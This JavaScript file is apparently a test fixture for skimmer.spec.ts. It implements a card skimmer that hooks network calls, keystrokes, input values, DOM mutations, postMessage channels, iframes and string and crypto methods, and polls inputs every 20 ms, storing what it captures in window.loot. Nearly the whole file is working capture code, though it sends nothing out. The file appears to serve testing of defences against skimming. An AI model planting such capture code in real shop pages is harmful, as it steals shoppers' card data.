/*
 * A skimmer, as attackers put one into a shop's page: it runs before everything else, hooks whatever a card number could
 * come through, and keeps all it sees in `window.loot`, by the name of the hook. Served to the browser by
 * skimmer.spec.ts; its control page shows that each hook works.
 */
(() => {
  /** @type {Record<string, string[]>} */
  const loot = {};
  window.loot = loot;

  // Taken before anything is hooked, so that the skimmer does not record itself.
  const { stringify } = JSON;
  const { apply, get, set, construct } = Reflect;
  const text = new TextDecoder();
  const decode = text.decode.bind(text);
  let recording = false;

  function keep(hook, ...values) {
    if (recording) return;
    recording = true;
    try {
      loot[hook] ??= [];
      for (const value of values) loot[hook].push(readable(value));
    } finally {
      recording = false;
    }
  }

  function readable(value) {
    if (typeof value === "string") return value;
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return decode(value);
    if (value instanceof FormData || value instanceof URLSearchParams) return stringify([...value]);
    try {
      return stringify(value) ?? String(value);
    } catch {
      return String(value);
    }
  }

  /** Wraps a method: records what it is called on, with and, if it says so at once, what it gives. */
  function hookMethod(hook, object, method) {
    const original = object?.[method];
    if (typeof original !== "function") return;
    object[method] = new Proxy(original, {
      apply(target, self, args) {
        keep(hook, ...(typeof self === "string" ? [self] : []), ...args);
        const given = apply(target, self, args);
        if (typeof given === "string") keep(hook, given);
        return given;
      },
    });
  }

  function hookAccessor(hook, object, property) {
    const accessor = Object.getOwnPropertyDescriptor(object, property);
    if (!accessor?.get) return;
    Object.defineProperty(object, property, {
      ...accessor,
      get() {
        const value = apply(accessor.get, this, []);
        keep(hook, value);
        return value;
      },
      set(value) {
        keep(hook, value);
        apply(accessor.set, this, [value]);
      },
    });
  }

  // The network.
  hookMethod("fetch", window, "fetch");
  hookMethod("xhr", XMLHttpRequest.prototype, "open");
  hookMethod("xhr", XMLHttpRequest.prototype, "send");
  hookMethod("beacon", Navigator.prototype, "sendBeacon");

  // The keyboard and the inputs.
  for (const type of ["keydown", "keypress", "keyup"]) {
    window.addEventListener(type, (event) => keep(type, event.key), true);
    document.addEventListener(type, (event) => keep(`${type} in the document`, event.key), true);
  }
  for (const type of ["beforeinput", "input", "change", "paste", "copy", "compositionend"]) {
    const hear = (event) => {
      keep(type, event.data ?? "", event.clipboardData?.getData("text") ?? "", event.target?.value ?? "");
    };
    window.addEventListener(type, hear, true);
    document.addEventListener(type, hear, true);
  }
  hookAccessor("value", HTMLInputElement.prototype, "value");

  // The document.
  const changed = (records) => {
    for (const { target, oldValue, attributeName, addedNodes } of records) {
      keep("mutation", target.nodeValue ?? "", oldValue ?? "", attributeName ? target.getAttribute(attributeName) : "");
      for (const node of addedNodes) keep("mutation", node.textContent ?? "");
    }
  };
  const everything = { subtree: true, childList: true, attributes: true, characterData: true };
  new MutationObserver(changed).observe(document, {
    ...everything,
    attributeOldValue: true,
    characterDataOldValue: true,
  });
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = apply(attachShadow, this, [{ ...init, mode: "open" }]);
    new MutationObserver(changed).observe(root, everything);
    return root;
  };

  // Messages: every way to send one, and every way to hear one.
  window.addEventListener("message", (event) => keep("message", event.data), true);
  hookMethod("postMessage", window, "postMessage");
  hookMethod("port", MessagePort.prototype, "postMessage");
  hookMethod("broadcast", BroadcastChannel.prototype, "postMessage");
  const heard = (listener) =>
    typeof listener === "function"
      ? function (event) {
          if (event instanceof MessageEvent) keep("port", event.data);
          return apply(listener, this, [event]);
        }
      : listener;
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
  Object.defineProperty(MessagePort.prototype, "onmessage", {
    ...onmessage,
    set(listener) {
      apply(onmessage.set, this, [heard(listener)]);
    },
  });
  const addEventListener = EventTarget.prototype.addEventListener;
  MessagePort.prototype.addEventListener = function (type, listener, options) {
    apply(addEventListener, this, [type, heard(listener), options]);
  };
  // A cross-origin window's postMessage cannot be replaced; the way by which the page gets at that window can.
  const contentWindow = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "contentWindow");
  Object.defineProperty(HTMLIFrameElement.prototype, "contentWindow", {
    ...contentWindow,
    get() {
      const real = apply(contentWindow.get, this, []);
      return (
        real && {
          postMessage(...args) {
            keep("frame", args[0]);
            real.postMessage(...args);
          },
        }
      );
    },
  });

  // What a script uses on a number before it sends it.
  for (const method of ["replace", "replaceAll", "slice", "substring", "split", "trim", "concat", "charCodeAt", "at"]) {
    hookMethod("string", String.prototype, method);
  }
  hookMethod("regexp", RegExp.prototype, "exec");
  hookMethod("regexp", RegExp.prototype, "test");
  hookMethod("json", JSON, "stringify");
  hookMethod("json", JSON, "parse");
  hookMethod("encoder", TextEncoder.prototype, "encode");
  hookMethod("encoder", TextEncoder.prototype, "encodeInto");
  for (const method of ["encrypt", "digest", "sign", "importKey", "wrapKey", "deriveBits"]) {
    hookMethod("crypto", SubtleCrypto.prototype, method);
  }
  for (const method of ["instantiate", "instantiateStreaming", "compile"]) hookMethod("wasm", WebAssembly, method);
  hookMethod("storage", Storage.prototype, "setItem");
  const RealMessageChannel = window.MessageChannel;
  window.MessageChannel = new Proxy(RealMessageChannel, {
    construct(target, args) {
      const channel = construct(target, args);
      keep("channel", "made");
      return channel;
    },
  });

  // And again and again: every input and every frame that can be reached.
  const contentDocument = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "contentDocument");
  setInterval(() => {
    for (const input of document.querySelectorAll("input, textarea")) keep("poll", input.value);
    for (const frame of document.querySelectorAll("iframe")) {
      let inside;
      try {
        inside = apply(contentDocument.get, frame, []) ?? get(apply(contentWindow.get, frame, []), "document");
      } catch {
        // Another origin: the browser says no.
      }
      if (inside) for (const input of inside.querySelectorAll("input")) keep("poll", input.value);
    }
  }, 20);
  set(window, "skimming", true);
})();
